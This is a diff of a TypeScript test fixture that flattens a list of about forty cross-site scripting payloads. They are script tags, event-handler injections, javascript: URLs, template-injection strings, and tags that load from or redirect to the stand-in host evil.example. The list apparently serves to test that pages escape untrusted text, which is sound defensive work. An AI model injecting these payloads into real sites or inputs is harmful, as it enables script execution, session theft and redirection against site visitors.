@@ -36,67 +36,55 @@ export const NAUGHTY: string[] = [...own, ...(naughty as unknown as string[])];
 
 /** Texts that would run as script where a page forgets to write them as text. */
 export const SCRIPTS: string[] = [
-  ...[
-    '<script>alert(1)</script>',
-    '"><script>alert(2)</script>',
-    "'><img src=x onerror=alert(3)>",
-    '<img src=x onerror=alert(4)>',
-  ],
-  ...[
-    '<svg onload=alert(5)>',
-    '<svg/onload=alert(6)//',
-    '<body onload=alert(7)>',
-    '<iframe src=javascript:alert(8)>',
-  ],
-  ...[
-    '<a href=javascript:alert(9)>x</a>',
-    '<details open ontoggle=alert(10)>',
-    '<video><source onerror=alert(11)>',
-    '<input autofocus onfocus=alert(12)>',
-  ],
-  ...[
-    '</title><script>alert(13)</script>',
-    '</textarea><script>alert(14)</script>',
-    '</style><script>alert(15)</script>',
-    '</script><script>alert(16)</script>',
-  ],
-  ...[
-    '--><script>alert(17)</script>',
-    ']]><script>alert(18)</script>',
-    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(19)>',
-  ],
-  ...[
-    '<noscript><p title="</noscript><img src=x onerror=alert(20)>">',
-    '<base href=//evil.example/>',
-    '<link rel=stylesheet href=//evil.example/x.css>',
-  ],
-  ...[
-    '<meta http-equiv=refresh content="0;url=//evil.example">',
-    '<object data=//evil.example/x.swf>',
-    '<embed src=//evil.example/x>',
-    '<form action=//evil.example><button>x',
-  ],
-  ...[
-    'javascript:alert(27)',
-    'data:text/html,<script>alert(28)</script>',
-    '" onmouseover="alert(29)',
-    "' autofocus onfocus='alert(30)",
-  ],
-  ...[
-    '`${alert(31)}`',
-    '{{constructor.constructor("alert(32)")()}}',
-    '<x contenteditable onblur=alert(33)>',
-    '<marquee onstart=alert(34)>',
-  ],
-  ...[
-    '<isindex type=image src=1 onerror=alert(35)>',
-    '\u003cscript\u003ealert(36)\u003c/script\u003e',
-    '&lt;script&gt;alert(37)&lt;/script&gt;',
-    '&#60;img src=x onerror=alert(38)&#62;',
-  ],
-  ...[
-    '<style>@import "//evil.example/x.css"</style>',
-    '![x](//evil.example/x.png) [y](javascript:alert(40))',
-    '<div style="background:url(//evil.example/x)">',
-  ],
+  '<script>alert(1)</script>',
+  '"><script>alert(2)</script>',
+  "'><img src=x onerror=alert(3)>",
+  '<img src=x onerror=alert(4)>',
+
+  '<svg onload=alert(5)>',
+  '<svg/onload=alert(6)//',
+  '<body onload=alert(7)>',
+  '<iframe src=javascript:alert(8)>',
+
+  '<a href=javascript:alert(9)>x</a>',
+  '<details open ontoggle=alert(10)>',
+  '<video><source onerror=alert(11)>',
+  '<input autofocus onfocus=alert(12)>',
+
+  '</title><script>alert(13)</script>',
+  '</textarea><script>alert(14)</script>',
+  '</style><script>alert(15)</script>',
+  '</script><script>alert(16)</script>',
+
+  '--><script>alert(17)</script>',
+  ']]><script>alert(18)</script>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(19)>',
+
+  '<noscript><p title="</noscript><img src=x onerror=alert(20)>">',
+  '<base href=//evil.example/>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<object data=//evil.example/x.swf>',
+  '<embed src=//evil.example/x>',
+  '<form action=//evil.example><button>x',
+
+  'javascript:alert(27)',
+  'data:text/html,<script>alert(28)</script>',
+  '" onmouseover="alert(29)',
+  "' autofocus onfocus='alert(30)",
+
+  '`${alert(31)}`',
+  '{{constructor.constructor("alert(32)")()}}',
+  '<x contenteditable onblur=alert(33)>',
+  '<marquee onstart=alert(34)>',
+
+  '<isindex type=image src=1 onerror=alert(35)>',
+  '\u003cscript\u003ealert(36)\u003c/script\u003e',
+  '&lt;script&gt;alert(37)&lt;/script&gt;',
+  '&#60;img src=x onerror=alert(38)&#62;',
+
+  '<style>@import "//evil.example/x.css"</style>',
+  '![x](//evil.example/x.png) [y](javascript:alert(40))',
+  '<div style="background:url(//evil.example/x)">',
 ];
